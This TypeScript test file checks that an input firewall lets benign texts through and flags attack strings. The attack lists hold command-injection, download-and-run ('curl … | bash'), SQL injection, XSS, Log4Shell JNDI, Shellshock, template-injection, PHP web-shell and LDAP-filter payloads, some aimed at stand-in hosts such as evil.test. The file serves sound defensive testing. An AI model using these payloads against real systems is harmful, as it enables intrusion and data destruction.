// biome-ignore-all lint/suspicious/noTemplateCurlyInString: templates and shells write so.
import assert from "node:assert/strict";
import { test } from "node:test";
import { createExaminer, DETECTORS } from "../../src/detect/index.ts";
import { bytes, SURE } from "./finder-tables.ts";

const examiner = createExaminer(DETECTORS);

/** What all detectors together say of a value, its layers taken off. */
function weightOf(text: string): number {
  return Math.max(0, ...[...examiner.examine(bytes(text)).values()].map(({ weight }) => weight));
}

function hold(what: string, honest: readonly string[], attacks: readonly string[]): void {
  test(`The firewall lets ${honest.length} honest texts through: ${what}`, () => {
    assert.deepEqual(honest.filter((text) => weightOf(text) >= SURE), []); // biome-ignore format: one line
  });
  test(`The firewall refuses ${attacks.length} attacks that look like them: ${what}`, () => {
    assert.deepEqual(attacks.filter((text) => weightOf(text) < SURE), []); // biome-ignore format: one line
  });
}

hold(
  "programs of services, as whoever watches processes is told of them",
  [
    "/usr/bin/node", "/usr/local/bin/node", "/usr/bin/python3 /app/main.py --port 80", "/usr/local/bin/docker-entrypoint.sh", "/usr/bin/java -cp /app/lib -Xmx512m com.acme.Main", "/usr/sbin/nginx", "/bin/sh", "/opt/acme/bin/ingest", "python3 /srv/acme/run.py",
  ],
  [
    "/usr/bin/id", "/bin/ls", "/usr/bin/whoami", "/bin/cat /etc/hosts", "/usr/bin/python3 -c import os", "/usr/bin/perl -e system", "/usr/bin/php -r system", "/usr/bin/python3 /tmp/x.py", "/usr/bin/python3 -m http.server", "/bin/sh -c id", "/usr/bin/node; id", "/usr/bin/node|id", "/bin/b?sh", ";/usr/bin/node", "x|/usr/bin/python3 /app/a.py", "/usr/bin/node /app/a.js $(id)",
  ],
); // biome-ignore format: lists of texts

const F = "```";
hold(
  "blocks of code between fences, in a text that goes on behind them or not",
  [
    `${F}java\nRuntime.getRuntime().exec(new String[]{"git","status"});\nClass.forName("com.mysql.jdbc.Driver");\n${F}`,
    `${F}html\n<script src="https://cdn.example.com/a.js"></script>\n<img src="x.png" onerror="this.src='fallback.png'">\n${F}`,
    `How do I load it?\n\n${F}html\n<script type="module" src="/js/app.js"></script>\n<button onclick="save()">Save</button>\n${F}\n\nThanks!`,
    `It fails here: ${"\n"}${F}sh\ncurl -sSL https://get.example.com/install.sh | bash\nsudo cat /etc/shadow; id\n${F}\nAny idea?`,
    `<p>${F}bash<br>#!/bin/bash<br>for f in $(ls *.txt); do cat "$f" | grep -v '^#' >> out; done<br>curl -sSL https://get.example.com/install.sh | bash<br>${F}</p>`,
    `<p>${F}php<br>&lt;?php<br>$q = $pdo-&gt;prepare('SELECT * FROM t WHERE id = ?');<br>echo htmlspecialchars($_GET['name']);<br>system('convert a.png b.jpg');<br>${F}</p>`,
    JSON.stringify({ text: `${F}dockerfile\nFROM node:20\nRUN apt-get update && apt-get install -y curl; rm -rf /var/lib/apt/lists/*\nCMD ["sh","-c","node server.js"]\n${F}` }),
    `Look:\n${F}sql\nselect a from b where c = 'x' or 1=1;\ndrop table d;\n${F}\nThanks!`,
    `See\n\n${F}\nimport os; os.system("make")\n${F}\n\nand\n\n${F}\nsubprocess.run(["ls", "-l"])\n${F}`,
    `Here is the snippet:\n${F}\nSELECT AVG(length) as 'Average'\nFROM songs;\n\nAny idea?`,
  ],
  [
    `x\n${F}\n; cat /etc/passwd`, `${F}\n; cat /etc/passwd`, `x\n${F}\n' or 1=1 -- `, `${F}\nx'; drop table users; --\n${F}`, `${F}\nx' union select name, pass from users /*\n${F}`,
    `${F}\n<script>alert(1)</script>\n${F}`, `${F}html\n<script src="https://evil.test/a.js"></script>\n${F}`, `${F}\n<img src=x onerror=alert(1)>\n${F}`, `<img src=x \n${F}\nonerror=alert(1)\n${F}\n>`,
    `${F}html\n<script src="/a.js"></script>\n${F}\n<script>alert(1)</script>`, `<svg onload=alert(1)>\n${F}html\n<script src="/a.js"></script>\n${F}`, `${F}html\n<img src="x" onerror="alert()">\n${F}`,
    `${F}\n` + "${T(java.lang.Runtime).getRuntime().exec('id')}" + `\n${F}`, `%{#a=@java.lang.Runtime@getRuntime().exec('id')}\n${F}\na\n${F}`, `Runtime.getRuntime().exec("id")\n${F}\na\n${F}`,
    `${F}php\n<?php system($_GET['c']); ?>\n${F}`, `${F}\n<!--#exec cmd="id"-->\n${F}`, `Hello!\n\n${F}\na\n${F}\n\n; cat /etc/passwd #`, `1' union select name, pass from users -- \n${F}\na\n${F}`,
    JSON.stringify({ a: `${F}\nb\n${F}`, c: "x; cat /etc/passwd" }), JSON.stringify([`${F}\nb\n${F}`, "<script>alert(1)</script>"]), `${F}<br>&lt;script&gt;alert(1)&lt;/script&gt;<br>${F}`,
    "${jndi:ldap://h.example/a}" + `\n${F}\na\n${F}`, `${F}\n` + "${jndi:ldap://h.example/a}" + `\n${F}`, `${F}\n() { :;}; /bin/id\n${F}`, `${F}\n{{7*7}}\n${F}`, `Hi!\n\n${F}jinja\n{{ ''.__class__.__mro__ }}\n${F}\n\nBye.`,
  ],
); // biome-ignore format: lists of texts

const TUBE = "https://www.youtube.com/embed/dQw4w9WgXcQ";
hold(
  "embeds of well-known providers in the text of an editor",
  [
    `<p>Watch:</p><iframe width="560" height="315" src="${TUBE}" frameborder="0" allow="accelerometer; autoplay" allowfullscreen></iframe>`,
    `<figure class="media"><div><iframe src="//player.vimeo.com/video/1?h=a" style="position:absolute;width:100%" title="a"></iframe></div></figure>`,
    `<iframe src="https://www.google.com/maps/embed?pb=!1m18!1m12!1m3!1d2" width="600" height="450" style="border:0;" loading="lazy" referrerpolicy="no-referrer-when-downgrade"></iframe>`,
    `<iframe style="border-radius:12px" src="https://open.spotify.com/embed/track/1?utm_source=generator" allow="encrypted-media"></iframe> <p>What a song.</p>`,
    `<iframe src="https://docs.google.com/forms/d/e/1/viewform?embedded=true" width="640">Loading…</iframe>`,
    `<blockquote class="twitter-tweet"><p>Hi</p>&mdash; A (@a) <a href="https://twitter.com/a/status/1">May 5</a></blockquote> <script async src="https://platform.twitter.com/widgets.js" charset="utf-8"></script>`,
    `<p>Hi</p>\n<!-- wp:html --><iframe title="x" src="https://www.youtube-nocookie.com/embed/a?start=5&amp;rel=0" data-ratio="16-9"></iframe><!-- /wp:html -->`,
  ],
  [
    `"><iframe src="${TUBE}"></iframe>`, `<iframe src="${TUBE}" onload="alert(1)"></iframe>`, `<iframe src="${TUBE}" srcdoc="<b>x</b>"></iframe>`, `<iframe src="${TUBE}"><script>alert(1)</script></iframe>`,
    `<iframe src="https://www.youtube.com.evil.test/embed/a"></iframe>`, `<iframe src="https://www.youtube.com@evil.test/embed/a"></iframe>`, `<iframe src="https://evil.test/www.youtube.com/embed/a"></iframe>`,
    `<iframe src="https://www.youtube.com\\@evil.test/embed/"></iframe>`, `<iframe src="javascript:alert(1)//www.youtube.com/embed/a"></iframe>`, `<iframe src="https://www.youtube.com/redirect?q=https://evil.test"></iframe>`, `<iframe src="${TUBE}" src="javascript:alert(1)"></iframe>`,
    `<script src="https://platform.twitter.com/widgets.js?callback=alert"></script>`, `<script src="https://platform.twitter.com.evil.test/widgets.js"></script>`, `<iframe src="${TUBE}"`, `<p>Watch:</p><iframe src="https://evil.test/embed/a"></iframe>`,
    `<iframe src="${TUBE}"></iframe><img src=x onerror=alert(1)>`,
  ],
); // biome-ignore format: lists of texts

hold(
  "sentences about commands, and commands of everyday work",
  [
    "apt-get update; apt-get install -y curl | tee /var/log/x.log -- doesn't work behind our proxy",
    "Hi,\n\napt-get update; apt-get install -y curl | tee /var/log/x.log -- doesn't work behind our proxy",
    "Can you curl your hair or ping me later? I'll grep the fridge for cat food; echo that; kill the lights.",
    "sudo apt-get update fails behind the proxy, what now?", "npm install | tee install.log", "npm ci; npm run build; npm test",
    `auto-changelog && git add CHANGELOG.md && git tag -a "v$(node -e "console.log(require('./package.json').version)")"`,
    "<p>apt-get update; apt-get install -y curl | tee /var/log/x.log -- doesn't work</p>",
    `It's "odd" so. onclick="nothing" I mean when I click nothing happens: onerror it should retry`, `We set onload='none' "there".`,
    "p&ss'w0rd", 'x|nc"Zr9',
  ],
  [
    "apt-get update; cat /etc/passwd", "apt-get update; apt-get install -y curl | sh", "apt-get update; curl http://h.example/a | bash", "sudo apt-get update; rm -rf /", "id | tee /tmp/a.log", "x;id | tee /tmp/a.log",
    "127.0.0.1; echo abc;", "127.0.0.1;echo abc;id", "my dear good old friend; echo that; cat /etc/passwd", "my dear good old friend;echo that;id",
    `$(node -e "require('child_process').exec('id')")`, `$(node -e "console.log(require('./package.json').version);require('fs')")`, "sudo rm -rf /, what now my old friend?", "sudo cat /etc/shadow fails here, what now?",
    "x\"; id\"", "x';whoami'", `x" onclick="alert`, `x" onfocus="a()`, `x" onclick="nothing" autofocus onfocus="alert(1)`, `x' onerror='location=name`, `" onload="a" onerror=alert(1) x="`,
  ],
); // biome-ignore format: lists of texts

hold(
  "stack traces of Java and .NET, in one line and in several",
  [
    "java.lang.NullPointerException: s is null\n\tat com.acme.Foo.bar(Foo.java:12)\nCaused by: java.lang.RuntimeException: ${user.name}", "<p>at com.acme.Foo.bar(Foo.java:12)<br>Caused by: java.lang.RuntimeException: ${user.name}</p>", "java.lang.RuntimeException: Unable to start activity",
    "java.io.IOException: Cannot run program \"git\"; at java.lang.ProcessBuilder.start(ProcessBuilder.java:1128); at java.lang.Runtime.exec(Runtime.java:592)",
    "Hello,<br>java.io.IOException<br>&nbsp;at java.base/java.lang.ProcessBuilder.start(ProcessBuilder.java:1128)<br>&nbsp;at java.base/java.lang.Runtime.exec(Runtime.java:347)",
    "System.NullReferenceException: Object reference not set.   at System.Diagnostics.Process.Start(ProcessStartInfo startInfo)<br>   at Foo.Bar() in C:\\src\\Foo.cs:line 9",
    "System.ComponentModel.Win32Exception (0x80004005): at System.Diagnostics.Process.Start(ProcessStartInfo startInfo) at A.Run(String[] args)",
    "at java.lang.Runtime.exec(String[] cmdarray, String[] envp)",
  ],
  [
    "java.lang.Runtime.getRuntime().exec('id')", "T(java.lang.Runtime).getRuntime().exec('id')", "new java.lang.ProcessBuilder('id').start()", "java.lang.RuntimeException: x java.lang.Runtime.getRuntime().exec('id')", "java.lang.ProcessBuilder.start(ProcessBuilder.java:1); java.lang.ProcessBuilder('id')",
    "@java.lang.Runtime@getRuntime().exec('id')", "System.Diagnostics.Process.Start(\"cmd.exe\")", "System.Diagnostics.Process.Start(cmd)", "System.Diagnostics.Process.Start(ProcessStartInfo startInfo) System.Diagnostics.Process.Start('calc')",
  ],
); // biome-ignore format: lists of texts

hold(
  "passwords with the signs of filters",
  ["9vQ*)(u=Z!8", "*)(x%IR|%5AnVK+v", "XHK;9<a@BT*)&StR", "c/@r9JF<ch1*))ll^D74", "*)|:2Cz:O", "Ab1*)({)E6o6", "q*)(=7"],
  ["*)(uid=*", "*)(u=*", "*)(c=us)", "*)(uid", "*)(", "x*)(objectClass>=a", "x*))(|(cn=*", "*)(&", "*)|(mail=a", "admin*)((|userpassword=*)", "9vQ*)(uid=Z!8"],
); // biome-ignore format: lists of texts
